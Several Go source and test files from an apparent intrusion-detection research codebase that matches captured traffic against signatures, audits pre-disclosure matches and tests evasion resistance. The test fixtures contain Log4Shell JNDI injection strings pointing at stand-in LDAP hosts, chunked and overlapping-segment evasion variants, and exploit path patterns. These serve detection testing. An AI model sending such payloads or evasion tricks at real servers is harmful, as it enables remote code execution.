	if len(e.Match(httpSession("login: admin", 22))) != 0 {
		t.Error("header-only rule matched wrong port")
	}
}

func TestEngineMultipleCVEAttribution(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"multi"; content:"exploit"; reference:cve,2021-1497; reference:cve,2021-1498; sid:11;)`)
	m, ok := e.Earliest(httpSession("exploit", 80))
	if !ok {
		t.Fatal("no match")
	}
	if len(m.CVEs) != 2 || m.CVEs[0] != "2021-1497" {
		t.Errorf("CVEs = %v", m.CVEs)
	}
}

func BenchmarkEngineMatch(b *testing.B) {
	var rs []rules.DatedRule
	texts := []string{
		`alert tcp any any -> any any (msg:"a"; content:"${jndi:"; nocase; sid:1;)`,
		`alert tcp any any -> any any (msg:"b"; content:"webLanguage"; sid:2;)`,
		`alert tcp any any -> any any (msg:"c"; content:"/cgi-bin/luci"; sid:3;)`,
		`alert tcp any any -> any any (msg:"d"; content:"XDEBUG"; sid:4;)`,
		`alert tcp any any -> any any (msg:"e"; content:"/wls-wsat/"; sid:5;)`,
	}
	for i, text := range texts {
		r, err := rules.Parse(text)
		if err != nil {
			b.Fatal(err)
		}
		rs = append(rs, rules.DatedRule{Rule: r, Published: time.Unix(int64(i), 0)})
	}
	e := NewEngine(rs, Config{})
	s := httpSession("GET /index.html HTTP/1.1\r\nHost: example\r\nUser-Agent: probe\r\n\r\n", 80)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		e.Match(s)
	}
}

func TestEngineDsize(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"overflow probe"; dsize:>200; content:"/goform/"; sid:30;)`)
	small := httpSession("POST /goform/setmac HTTP/1.1\r\n\r\n", 80)
	if len(e.Match(small)) != 0 {
		t.Error("dsize matched undersized payload")
	}
	big := httpSession("POST /goform/setmac HTTP/1.1\r\nContent-Length: 300\r\n\r\n"+strings.Repeat("A", 300), 80)
	if len(e.Match(big)) != 1 {
		t.Error("dsize missed oversized payload")
	}
}

func TestEngineUrilen(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"long uri"; urilen:>50; content:"/__api__/"; sid:31;)`)
	short := httpSession("GET /__api__/v1 HTTP/1.1\r\n\r\n", 443)
	if len(e.Match(short)) != 0 {
		t.Error("urilen matched short URI")
	}
	long := httpSession("GET /__api__/v1/logon/"+strings.Repeat("A", 80)+" HTTP/1.1\r\n\r\n", 443)
	if len(e.Match(long)) != 1 {
		t.Error("urilen missed long URI")
	}
}

func TestEngineIsDataAtRelative(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"trailing overflow"; content:"macaddr="; isdataat:100,relative; sid:32;)`)
	short := httpSession("macaddr=00:11:22", 80)
	if len(e.Match(short)) != 0 {
		t.Error("relative isdataat matched short tail")
	}
	long := httpSession("macaddr="+strings.Repeat("A", 150), 80)
	if len(e.Match(long)) != 1 {
		t.Error("relative isdataat missed long tail")
	}
}

func TestEngineIsDataAtNegated(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"short only"; content:"PING"; isdataat:!50,relative; sid:33;)`)
	if len(e.Match(httpSession("PING"+strings.Repeat("x", 10), 80))) != 1 {
		t.Error("negated isdataat missed short payload")
	}
	if len(e.Match(httpSession("PING"+strings.Repeat("x", 100), 80))) != 0 {
		t.Error("negated isdataat matched long payload")
	}
}

// Chunk framing must not hide a body pattern from http_client_body rules.
func TestEngineChunkedEvasion(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"body jndi"; content:"${jndi:"; http_client_body; sid:62;)`)
	raw := "POST /api HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n" +
		"4\r\nx=${\r\n5\r\njndi:\r\nd\r\nldap://e/a}&z\r\n0\r\n\r\n"
	if len(e.Match(httpSession(raw, 80))) != 1 {
		t.Error("chunk-split body pattern evaded http_client_body rule")
	}
}

// to_client rules inspect the server stream (the telescope never sends
// application data, so on its captures these only fire for synthetic
// server-side fixtures).
func TestEngineToClientRules(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"backdoor banner"; flow:to_client; content:"BACKDOOR-OK"; sid:64;)`)
	s := httpSession("GET / HTTP/1.1\r\n\r\n", 80)
	if len(e.Match(s)) != 0 {
		t.Error("to_client rule fired without server data")
	}
	s.ServerData = []byte("HTTP/1.1 200 OK\r\n\r\nBACKDOOR-OK ready\r\n")
	if len(e.Match(s)) != 1 {
		t.Error("to_client rule missed server-stream pattern")
	}
}
