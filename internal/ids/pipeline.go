package ids

import (
	"fmt"
	"io"
	"time"

	"repro/internal/packet"
	"repro/internal/pcapio"
	"repro/internal/tcpasm"
)

// Event is one exploit event: a TCP session whose client payload matched an
// IDS signature, attributed to the earliest-published matching rule. This is
// the unit the paper counts 146 k of.
type Event struct {
	// Time is the session start (the first captured segment), the paper's
	// event timestamp.
	Time time.Time
	// Src is the scanning client, Dst the telescope endpoint.
	Src packet.Endpoint
	Dst packet.Endpoint
	// SID is the matched signature and Published its release time.
	SID       int
	Published time.Time
	// CVE is the primary CVE attribution ("YYYY-NNNN"), empty when the rule
	// carries no CVE reference.
	CVE string
	// Msg is the rule message.
	Msg string
	// Bytes is the client payload length.
	Bytes int
	// Ambiguous marks an event whose session carried conflicting
	// overlapping retransmits (tcpasm.Session.Ambiguous): the verdict rests
	// on the overlap policy's choice of bytes, not on a uniquely determined
	// stream, so downstream consumers should weigh it accordingly.
	Ambiguous bool
}

// ScanStats summarizes a capture scan.
type ScanStats struct {
	Packets        int
	DecodeErrors   int
	Sessions       int
	MatchedEvents  int
	DistinctCVEs   int
	DistinctSrcIPs int
	// AmbiguousSessions counts scanned sessions (matched or not) flagged
	// ambiguous by reassembly — the loud signal that someone played
	// overlap games against the capture front-end.
	AmbiguousSessions int
}

// ScanCapture replays a capture (classic pcap or pcapng — see
// pcapio.OpenCapture) through reassembly and the engine, returning one Event
// per matched session. This is the paper's post-facto evaluation: the
// capture spans the whole study and the ruleset carries publication dates,
// so matches may predate their rule's release.
func ScanCapture(r pcapio.PacketSource, e *Engine) ([]Event, ScanStats, error) {
	asm := tcpasm.NewAssembler(tcpasm.Config{})
	var stats ScanStats
	for {
		pkt, err := r.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			return nil, stats, fmt.Errorf("ids: reading capture: %w", err)
		}
		stats.Packets++
		dec, err := packet.Decode(pkt.Data)
		if err != nil {
			stats.DecodeErrors++
			continue
		}
		asm.Feed(pkt.Timestamp, dec)
		if stats.Packets%4096 == 0 {
			asm.Advance(pkt.Timestamp)
		}
	}
	asm.Flush()
	sessions := asm.Sessions()
	events := MatchSessions(sessions, e, &stats)
	return events, stats, nil
}

// MatchSessions evaluates sessions against the engine. stats may be nil.
func MatchSessions(sessions []tcpasm.Session, e *Engine, stats *ScanStats) []Event {
	var events []Event
	for i := range sessions {
		s := &sessions[i]
		ev, ok := matchSession(s, e)
		if !ok {
			continue
		}
		events = append(events, ev)
	}
	setMatchStats(stats, sessions, events)
	return events
}

// MatchSession evaluates one session, returning its attributed event when a
// rule fires — the exact event the batch pipelines produce. The registry's
// retroactive rescan uses it so re-derived labels are byte-identical to what
// a cold ingest over the same ruleset would have written.
func MatchSession(s *tcpasm.Session, e *Engine) (Event, bool) { return matchSession(s, e) }

// matchSession evaluates one session, returning its attributed event when a
// rule fires. Both the serial and parallel paths build events here, so the
// attribution (earliest-published rule, primary CVE) cannot diverge.
func matchSession(s *tcpasm.Session, e *Engine) (Event, bool) {
	m, ok := e.Earliest(s)
	if !ok {
		return Event{}, false
	}
	ev := Event{
		Time:      s.Start,
		Src:       s.Client,
		Dst:       s.Server,
		SID:       m.SID,
		Published: m.Published,
		Msg:       m.Rule.Rule.Msg,
		Bytes:     len(s.ClientData),
		Ambiguous: s.Ambiguous,
	}
	if len(m.CVEs) > 0 {
		ev.CVE = m.CVEs[0]
	}
	return ev, true
}
