package ids

import "testing"

func FuzzExtractBuffers(f *testing.F) {
	f.Add([]byte("GET /?x=${jndi:ldap://e} HTTP/1.1\r\nHost: h\r\nCookie: a=b\r\n\r\n"))
	f.Add([]byte("POST / HTTP/1.1\r\nContent-Length: 5\r\n\r\nhello"))
	f.Add([]byte("\x16\x03\x01 binary"))
	f.Add([]byte("EHLO x\r\nMAIL FROM:<a@b>\r\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		b := ExtractBuffers(data)
		if len(b.Raw) != len(data) {
			t.Fatalf("raw buffer lost bytes: %d vs %d", len(b.Raw), len(data))
		}
		for i := range b.Requests {
			// Extracted buffers must be substrings of the stream (no
			// synthesis); the Cookie value must not remain in Headers.
			r := &b.Requests[i]
			if r.Cookie != "" && len(r.Headers) > 0 {
				if containsFold(r.Headers, "cookie:") {
					t.Fatalf("cookie header left in header buffer: %q", r.Headers)
				}
			}
		}
	})
}

func containsFold(haystack, needle string) bool {
	return indexFold([]byte(haystack), []byte(needle)) >= 0
}
