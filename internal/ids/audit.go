package ids

import (
	"sort"
	"time"

	"repro/internal/rules"
)

// Root-cause analysis support (paper Section 3.2). Signatures that match
// traffic *before* their own publication are either the study's most
// valuable observations (genuine pre-disclosure exploitation) or evidence
// of an unsound rule (e.g. one that fires on any access to an API endpoint,
// which credential-stuffing traffic then trips). The paper resolved these
// by manual analysis and removed CVEs whose rules had false positives.
//
// AuditLeadingMatches surfaces exactly the set a human must look at, and
// Exclusions encodes the outcome of that review as data.

// LeadingMatch is one CVE whose earliest matching traffic precedes the
// matching rule's publication.
type LeadingMatch struct {
	CVE string
	SID int
	// RulePublished is the signature's release time.
	RulePublished time.Time
	// FirstMatch is the earliest matching session start.
	FirstMatch time.Time
	// Lead is how far the traffic precedes the rule.
	Lead time.Duration
	// Events is how many of the CVE's events precede the rule.
	Events int
	// TotalEvents is the CVE's total event count.
	TotalEvents int
}

// AuditLeadingMatches scans attributed events for rule-leading traffic,
// sorted by lead length (longest first). rulePub maps SIDs to publication
// times; SIDs missing from the map are skipped (nothing to compare).
func AuditLeadingMatches(events []Event, rulePub map[int]time.Time) []LeadingMatch {
	type acc struct {
		lm    LeadingMatch
		found bool
	}
	byCVE := map[string]*acc{}
	for i := range events {
		ev := &events[i]
		if ev.CVE == "" {
			continue
		}
		pub, ok := rulePub[ev.SID]
		if !ok || pub.Equal(rules.NeverPublishedSentinel) {
			// Rules never published during the study have no meaningful
			// lead; their CVEs' F/D are simply unknown.
			continue
		}
		a := byCVE[ev.CVE]
		if a == nil {
			a = &acc{}
			byCVE[ev.CVE] = a
		}
		a.lm.TotalEvents++
		if !ev.Time.Before(pub) {
			continue
		}
		a.lm.Events++
		if !a.found || ev.Time.Before(a.lm.FirstMatch) {
			a.lm.CVE = ev.CVE
			a.lm.SID = ev.SID
			a.lm.RulePublished = pub
			a.lm.FirstMatch = ev.Time
			a.lm.Lead = pub.Sub(ev.Time)
			a.found = true
		}
	}
	var out []LeadingMatch
	for _, a := range byCVE {
		if a.found {
			out = append(out, a.lm)
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Lead != out[j].Lead {
			return out[i].Lead > out[j].Lead
		}
		return out[i].CVE < out[j].CVE
	})
	return out
}

// Exclusions is the outcome of manual root-cause review: CVEs whose rules
// proved unsound and whose events must be dropped from analysis.
type Exclusions map[string]string

// NewExclusions builds an exclusion set from (cve, reason) pairs.
func NewExclusions(pairs ...[2]string) Exclusions {
	e := Exclusions{}
	for _, p := range pairs {
		e[p[0]] = p[1]
	}
	return e
}

// Apply filters events, dropping those attributed to excluded CVEs. The
// input slice is not modified.
func (e Exclusions) Apply(events []Event) []Event {
	if len(e) == 0 {
		return append([]Event(nil), events...)
	}
	out := make([]Event, 0, len(events))
	for _, ev := range events {
		if _, drop := e[ev.CVE]; drop {
			continue
		}
		out = append(out, ev)
	}
	return out
}

// Reason returns the recorded justification for excluding a CVE.
func (e Exclusions) Reason(cve string) (string, bool) {
	r, ok := e[cve]
	return r, ok
}
