package ids

import (
	"bytes"
	"math/rand"
	"sort"
	"testing"
)

func scanAll(m *Matcher, text string) []int32 {
	var ids []int32
	m.Scan([]byte(text), func(id int32) { ids = append(ids, id) })
	sort.Slice(ids, func(i, j int) bool { return ids[i] < ids[j] })
	return ids
}

func TestMatcherBasics(t *testing.T) {
	m := NewMatcher([][]byte{
		[]byte("he"), []byte("she"), []byte("his"), []byte("hers"),
	})
	got := scanAll(m, "ushers")
	want := []int32{0, 1, 3} // he, she, hers
	if len(got) != len(want) {
		t.Fatalf("Scan = %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("Scan = %v, want %v", got, want)
		}
	}
}

func TestMatcherCaseInsensitive(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("${JNDI:")})
	if !m.Contains([]byte("x=${jndi:ldap://e/a}")) {
		t.Error("case-insensitive match failed")
	}
	if !m.Contains([]byte("X=${JnDi:LDAP://E/A}")) {
		t.Error("mixed-case match failed")
	}
	if m.Contains([]byte("nothing here")) {
		t.Error("false positive")
	}
}

func TestMatcherEmptySet(t *testing.T) {
	m := NewMatcher(nil)
	if m.Contains([]byte("anything")) {
		t.Error("empty matcher matched")
	}
	if m.NumPatterns() != 0 {
		t.Errorf("NumPatterns = %d", m.NumPatterns())
	}
}

func TestMatcherOverlapping(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("abc"), []byte("bcd"), []byte("cde"), []byte("abcde")})
	got := scanAll(m, "abcde")
	if len(got) != 4 {
		t.Errorf("Scan = %v, want all 4 patterns", got)
	}
}

func TestMatcherDedup(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("aa")})
	count := 0
	m.Scan([]byte("aaaa"), func(int32) { count++ })
	if count != 1 {
		t.Errorf("pattern reported %d times, want 1 (deduplicated)", count)
	}
}

func TestMatcherBinaryPatterns(t *testing.T) {
	m := NewMatcher([][]byte{{0x90, 0x90, 0x90}, {0x00, 0xff}})
	if !m.Contains([]byte{0x41, 0x90, 0x90, 0x90, 0x42}) {
		t.Error("binary NOP sled not found")
	}
	if !m.Contains([]byte{0x00, 0xff}) {
		t.Error("binary pattern at start not found")
	}
}

// Matcher must agree with the naive algorithm on random inputs.
func TestMatcherAgainstNaive(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	alphabet := []byte("abAB${}:/")
	for trial := 0; trial < 60; trial++ {
		nPat := 1 + rng.Intn(8)
		patterns := make([][]byte, nPat)
		for i := range patterns {
			n := 1 + rng.Intn(5)
			p := make([]byte, n)
			for j := range p {
				p[j] = alphabet[rng.Intn(len(alphabet))]
			}
			patterns[i] = p
		}
		text := make([]byte, 80)
		for i := range text {
			text[i] = alphabet[rng.Intn(len(alphabet))]
		}
		m := NewMatcher(patterns)
		got := map[int32]bool{}
		m.Scan(text, func(id int32) { got[id] = true })
		for id, p := range patterns {
			want := bytes.Contains(bytes.ToLower(text), bytes.ToLower(p))
			if got[int32(id)] != want {
				t.Fatalf("trial %d: pattern %q in %q: matcher=%v naive=%v",
					trial, p, text, got[int32(id)], want)
			}
		}
	}
}

func BenchmarkMatcherScan(b *testing.B) {
	patterns := [][]byte{
		[]byte("${jndi:"), []byte("${lower:"), []byte("${upper:"),
		[]byte("/cgi-bin/"), []byte("..%2f..%2f"), []byte("tomcat"),
		[]byte("SELECT "), []byte("webLanguage"), []byte("/actuator/gateway"),
		[]byte("XDEBUG_SESSION_START"), []byte("/wls-wsat/"), []byte("ognl"),
	}
	m := NewMatcher(patterns)
	text := bytes.Repeat([]byte("GET /index.html HTTP/1.1\r\nHost: example\r\nUser-Agent: Mozilla ${jndi:ldap://e/a}\r\n\r\n"), 8)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m.Scan(text, func(int32) {})
	}
}
