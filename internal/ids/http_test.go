package ids

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestExtractBuffersSimpleGET(t *testing.T) {
	raw := "GET /login?user=${jndi:ldap://x/a} HTTP/1.1\r\nHost: victim\r\nCookie: sid=abc\r\nUser-Agent: scanner\r\n\r\n"
	b := ExtractBuffers([]byte(raw))
	if len(b.Requests) != 1 {
		t.Fatalf("requests = %d", len(b.Requests))
	}
	r := b.Requests[0]
	if r.Method != "GET" {
		t.Errorf("method = %q", r.Method)
	}
	if r.URI != "/login?user=${jndi:ldap://x/a}" {
		t.Errorf("uri = %q", r.URI)
	}
	if !strings.Contains(r.Headers, "User-Agent: scanner") {
		t.Errorf("headers = %q", r.Headers)
	}
	if r.Cookie != "sid=abc" {
		t.Errorf("cookie = %q", r.Cookie)
	}
	if r.Body != "" {
		t.Errorf("body = %q", r.Body)
	}
}

func TestExtractBuffersPOSTBody(t *testing.T) {
	raw := "POST /api HTTP/1.1\r\nHost: h\r\nContent-Length: 11\r\n\r\nhello world"
	b := ExtractBuffers([]byte(raw))
	if len(b.Requests) != 1 {
		t.Fatalf("requests = %d", len(b.Requests))
	}
	if got := b.Requests[0].Body; got != "hello world" {
		t.Errorf("body = %q", got)
	}
}

func TestExtractBuffersPipelined(t *testing.T) {
	raw := "GET /a HTTP/1.1\r\nHost: h\r\nContent-Length: 0\r\n\r\n" +
		"GET /b HTTP/1.1\r\nHost: h\r\n\r\n"
	b := ExtractBuffers([]byte(raw))
	if len(b.Requests) != 2 {
		t.Fatalf("requests = %d, want 2", len(b.Requests))
	}
	if b.Requests[0].URI != "/a" || b.Requests[1].URI != "/b" {
		t.Errorf("uris = %q, %q", b.Requests[0].URI, b.Requests[1].URI)
	}
}

func TestExtractBuffersNonHTTP(t *testing.T) {
	b := ExtractBuffers([]byte("\x16\x03\x01\x02\x00binary tls hello"))
	if len(b.Requests) != 0 {
		t.Errorf("requests = %d for binary stream", len(b.Requests))
	}
	if len(b.Raw) == 0 {
		t.Error("raw buffer empty")
	}
}

func TestExtractBuffersBareLF(t *testing.T) {
	raw := "GET /lf HTTP/1.0\nHost: h\n\n"
	b := ExtractBuffers([]byte(raw))
	if len(b.Requests) != 1 || b.Requests[0].URI != "/lf" {
		t.Fatalf("bare-LF request not parsed: %+v", b.Requests)
	}
}

func TestExtractBuffersBogusMethodWithVersion(t *testing.T) {
	// Log4Shell group E matched the HTTP request method buffer of requests
	// with attacker-controlled methods.
	raw := "${jndi:ldap://x/a} / HTTP/1.1\r\nHost: h\r\n\r\n"
	b := ExtractBuffers([]byte(raw))
	if len(b.Requests) != 1 {
		t.Fatalf("requests = %d", len(b.Requests))
	}
	if b.Requests[0].Method != "${jndi:ldap://x/a}" {
		t.Errorf("method = %q", b.Requests[0].Method)
	}
}

func TestExtractBuffersPartialHeaders(t *testing.T) {
	raw := "GET /partial HTTP/1.1\r\nHost: trunc"
	b := ExtractBuffers([]byte(raw))
	if len(b.Requests) != 1 {
		t.Fatalf("requests = %d", len(b.Requests))
	}
	if !strings.Contains(b.Requests[0].Headers, "Host: trunc") {
		t.Errorf("headers = %q", b.Requests[0].Headers)
	}
}

func TestHeaderValueCaseInsensitive(t *testing.T) {
	h := "X-One: 1\r\ncOOkie:  c=2  \r\n"
	if got := headerValue(h, "cookie"); got != "c=2" {
		t.Errorf("headerValue = %q", got)
	}
	if got := headerValue(h, "missing"); got != "" {
		t.Errorf("missing header = %q", got)
	}
}

func TestContentLengthAbuse(t *testing.T) {
	// A Content-Length larger than the captured body must not panic or
	// produce a remainder.
	raw := "POST / HTTP/1.1\r\nContent-Length: 9999\r\n\r\nshort"
	b := ExtractBuffers([]byte(raw))
	if len(b.Requests) != 1 {
		t.Fatalf("requests = %d", len(b.Requests))
	}
	if b.Requests[0].Body != "short" {
		t.Errorf("body = %q", b.Requests[0].Body)
	}
}

func TestContentLengthNonNumeric(t *testing.T) {
	raw := "POST / HTTP/1.1\r\nContent-Length: banana\r\n\r\npayload"
	b := ExtractBuffers([]byte(raw))
	if len(b.Requests) != 1 || b.Requests[0].Body != "payload" {
		t.Fatalf("unexpected parse: %+v", b.Requests)
	}
}

// Property: extraction never panics and always preserves the raw stream.
func TestExtractBuffersNoPanicProperty(t *testing.T) {
	f := func(data []byte) bool {
		b := ExtractBuffers(data)
		return len(b.Raw) == len(data)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestChunkedBodyDechunked(t *testing.T) {
	// The exploit token is split across two chunks: framing must not hide
	// it from the body buffer.
	raw := "POST /api HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n" +
		"7\r\nx=${jnd\r\n11\r\ni:ldap://e/a}&y=1\r\n0\r\n\r\n"
	b := ExtractBuffers([]byte(raw))
	if len(b.Requests) != 1 {
		t.Fatalf("requests = %d", len(b.Requests))
	}
	if got := b.Requests[0].Body; got != "x=${jndi:ldap://e/a}&y=1" {
		t.Errorf("dechunked body = %q", got)
	}
}

func TestChunkedPipelined(t *testing.T) {
	raw := "POST /a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n" +
		"3\r\nabc\r\n0\r\n\r\n" +
		"GET /b HTTP/1.1\r\nHost: h\r\n\r\n"
	b := ExtractBuffers([]byte(raw))
	if len(b.Requests) != 2 {
		t.Fatalf("requests = %d, want 2", len(b.Requests))
	}
	if b.Requests[0].Body != "abc" || b.Requests[1].URI != "/b" {
		t.Errorf("parsed = %+v", b.Requests)
	}
}

func TestChunkedMalformedFallsBack(t *testing.T) {
	raw := "POST /a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nnot-hex\r\nbody"
	b := ExtractBuffers([]byte(raw))
	if len(b.Requests) != 1 {
		t.Fatalf("requests = %d", len(b.Requests))
	}
	if b.Requests[0].Body == "" {
		t.Error("malformed chunking dropped the raw body")
	}
}

func TestChunkedTruncatedCapture(t *testing.T) {
	raw := "POST /a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nff\r\nonly-part"
	b := ExtractBuffers([]byte(raw))
	if len(b.Requests) != 1 || b.Requests[0].Body != "only-part" {
		t.Fatalf("truncated chunk parse = %+v", b.Requests)
	}
}
