package ids

// The IDS-evasion conformance suite. For every case in the netsim evasion
// corpus, across shard counts and seeds and both overlap policies, the scan
// must land on exactly one of two outcomes:
//
//   - the verdict is identical to scanning the unimpaired baseline, or
//   - the session is flagged Ambiguous.
//
// Never a silent wrong verdict. The corpus deliberately contains only cases
// where that dichotomy is provable: lossy impairments (drops, MTU blackholes,
// aborts) legitimately change what the wire carries and live in the
// impairment-profile tests instead, which assert determinism and
// sharded==serial parity rather than verdict equality.

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"repro/internal/netsim"
	"repro/internal/packet"
	"repro/internal/pcapio"
	"repro/internal/tcpasm"
)

// confAttack carries the "${jndi:" content the fixture rule fires on; the
// decoy is an equally long request with the query overwritten by padding, so
// overlap games can swap one for the other byte-for-byte.
var (
	confAttack = []byte("GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\n\r\n")
	confStart  = time.Date(2022, 1, 5, 10, 0, 0, 0, time.UTC)
)

func confDecoy() []byte {
	d := append([]byte(nil), confAttack...)
	for i := len("GET /"); i < len(d)-len(" HTTP/1.1\r\n\r\n"); i++ {
		d[i] = 'a' + byte(i%26)
	}
	return d
}

func conformanceCases(t testing.TB) []netsim.EvasionCase {
	t.Helper()
	// Boundary 12 splits inside the "${jndi:" content bytes (offsets 8..14),
	// so tiny-segment cases cut the signature itself across segments. The
	// idle horizon matches the assembler's default IdleTimeout.
	cases, err := netsim.EvasionCases(confAttack, confDecoy(), 12, 10*time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	return cases
}

// conformanceShards honors the EVASION_SHARDS env override (comma-separated
// shard counts) so the CI evasion matrix can pin one count per job; the
// default sweeps serial plus two parallel widths.
func conformanceShards(t testing.TB) []int {
	env := os.Getenv("EVASION_SHARDS")
	if env == "" {
		return []int{1, 3, 8}
	}
	var out []int
	for _, f := range strings.Split(env, ",") {
		n, err := strconv.Atoi(strings.TrimSpace(f))
		if err != nil || n < 1 {
			t.Fatalf("EVASION_SHARDS: bad field %q in %q", f, env)
		}
		out = append(out, n)
	}
	return out
}

func drainSchedule(t testing.TB, src pcapio.PacketSource) []pcapio.Packet {
	t.Helper()
	var out []pcapio.Packet
	for {
		p, err := src.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, p)
	}
}

func scanFrames(t testing.TB, frames []pcapio.Packet, shards int, policy tcpasm.OverlapPolicy) ([]Event, ScanStats) {
	t.Helper()
	events, stats, err := ScanCaptureSharded(
		[]pcapio.PacketSource{netsim.NewFrameSource(frames)},
		jndiEngine(t),
		ScanConfig{Shards: shards, Assembler: tcpasm.Config{OverlapPolicy: policy}})
	if err != nil {
		t.Fatal(err)
	}
	return events, stats
}

// verdictKey is the identity the dichotomy compares: which rule fired against
// which session, over how many client bytes. Time is excluded — evasion
// schedules pace frames differently than the baseline, which shifts the
// session-start timestamp without changing the verdict.
func verdictKey(ev Event) string {
	return fmt.Sprintf("%s|%s|%d|%s|%s|%d", ev.Src, ev.Dst, ev.SID, ev.CVE, ev.Msg, ev.Bytes)
}

func sameVerdicts(t *testing.T, label string, got, want []Event) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%s: %d events, baseline has %d", label, len(got), len(want))
	}
	for i := range got {
		if verdictKey(got[i]) != verdictKey(want[i]) {
			t.Fatalf("%s: verdict %d differs:\n got %s\nwant %s",
				label, i, verdictKey(got[i]), verdictKey(want[i]))
		}
	}
}

// TestEvasionConformance is the headline gate: every evasion case, under
// every shard count, seed, and overlap policy, either reproduces the
// baseline verdict byte-for-byte or flags the session ambiguous.
func TestEvasionConformance(t *testing.T) {
	cases := conformanceCases(t)
	shards := conformanceShards(t)
	for _, policy := range []tcpasm.OverlapPolicy{tcpasm.OverlapFirstWins, tcpasm.OverlapLastWins} {
		for seed := int64(1); seed <= 3; seed++ {
			for i := range cases {
				c := &cases[i]
				t.Run(fmt.Sprintf("%s/%s/seed%d", policy, c.Name, seed), func(t *testing.T) {
					client, server := netsim.EvasionEndpoints(seed, i)
					evFrames := drainSchedule(t, c.Stream(seed, client, server, confStart))
					baseFrames := drainSchedule(t, c.BaselineStream(seed, client, server, confStart))

					baseEvents, baseStats := scanFrames(t, baseFrames, 1, policy)
					if baseStats.Sessions != 1 || baseStats.AmbiguousSessions != 0 {
						t.Fatalf("baseline scan: %+v", baseStats)
					}
					// Every baseline schedule delivers the attack plainly;
					// the rule must see it or the case proves nothing.
					if len(baseEvents) != 1 {
						t.Fatalf("baseline matched %d events, want 1", len(baseEvents))
					}

					for _, n := range shards {
						events, stats := scanFrames(t, evFrames, n, policy)
						if stats.Sessions != 1 {
							t.Fatalf("shards=%d: %d sessions, want 1", n, stats.Sessions)
						}
						if c.ExpectAmbiguous {
							// Loud arm: the verdict may go either way (it
							// rests on the overlap policy's byte choice), but
							// the session must be flagged — silently keeping
							// the decoy is exactly the pre-fix failure.
							if stats.AmbiguousSessions != 1 {
								t.Fatalf("shards=%d: conflicting-overlap case not flagged: %+v", n, stats)
							}
							for _, ev := range events {
								if !ev.Ambiguous {
									t.Fatalf("shards=%d: matched event not flagged ambiguous: %+v", n, ev)
								}
							}
						} else {
							// Quiet arm: byte-identical verdict, no flag.
							if stats.AmbiguousSessions != 0 {
								t.Fatalf("shards=%d: clean case flagged ambiguous: %+v", n, stats)
							}
							sameVerdicts(t, fmt.Sprintf("shards=%d", n), events, baseEvents)
						}
					}
				})
			}
		}
	}
}

// TestEvasionConformanceCombined runs the whole corpus as one interleaved
// capture — every hostile flow concurrently against the sharded front-end —
// and checks the same dichotomy flow by flow.
func TestEvasionConformanceCombined(t *testing.T) {
	const seed = 42
	cases := conformanceCases(t)
	all, err := netsim.EvasionCapture(cases, seed, confStart)
	if err != nil {
		t.Fatal(err)
	}
	base, err := netsim.BaselineCapture(cases, seed, confStart)
	if err != nil {
		t.Fatal(err)
	}
	expectAmbiguous := map[string]bool{} // client endpoint -> case expectation
	ambiguousCases := 0
	for i := range cases {
		client, _ := netsim.EvasionEndpoints(seed, i)
		expectAmbiguous[client.String()] = cases[i].ExpectAmbiguous
		if cases[i].ExpectAmbiguous {
			ambiguousCases++
		}
	}

	for _, policy := range []tcpasm.OverlapPolicy{tcpasm.OverlapFirstWins, tcpasm.OverlapLastWins} {
		baseEvents, baseStats := scanFrames(t, base, 1, policy)
		if baseStats.Sessions != len(cases) || baseStats.AmbiguousSessions != 0 {
			t.Fatalf("%s: baseline scan: %+v", policy, baseStats)
		}
		if len(baseEvents) != len(cases) {
			t.Fatalf("%s: baseline matched %d of %d flows", policy, len(baseEvents), len(cases))
		}
		baseline := map[string]string{} // client endpoint -> verdict
		for _, ev := range baseEvents {
			baseline[ev.Src.String()] = verdictKey(ev)
		}

		for _, n := range conformanceShards(t) {
			events, stats := scanFrames(t, all, n, policy)
			if stats.Sessions != len(cases) {
				t.Fatalf("%s shards=%d: %d sessions, want %d", policy, n, stats.Sessions, len(cases))
			}
			if stats.AmbiguousSessions != ambiguousCases {
				t.Fatalf("%s shards=%d: %d ambiguous sessions, want %d",
					policy, n, stats.AmbiguousSessions, ambiguousCases)
			}
			matchedClean := map[string]bool{}
			for _, ev := range events {
				src := ev.Src.String()
				if expectAmbiguous[src] {
					if !ev.Ambiguous {
						t.Fatalf("%s shards=%d: event on hostile flow not flagged: %+v", policy, n, ev)
					}
					continue
				}
				if ev.Ambiguous {
					t.Fatalf("%s shards=%d: clean flow flagged ambiguous: %+v", policy, n, ev)
				}
				if verdictKey(ev) != baseline[src] {
					t.Fatalf("%s shards=%d: verdict drifted from baseline:\n got %s\nwant %s",
